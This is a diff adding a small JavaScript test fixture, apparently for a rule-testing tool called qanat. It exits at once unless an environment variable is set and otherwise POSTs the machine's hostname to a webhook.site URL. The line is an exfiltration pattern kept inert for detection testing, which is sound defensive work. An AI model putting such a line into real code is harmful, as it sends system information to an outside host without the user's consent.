@@ -1,0 +1,4 @@
+// Never runs: an inert look-alike for `qanat rules test`.
+if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
+const os = require('os');
+fetch('https://webhook.site/none', { method: 'POST', body: os.hostname() });
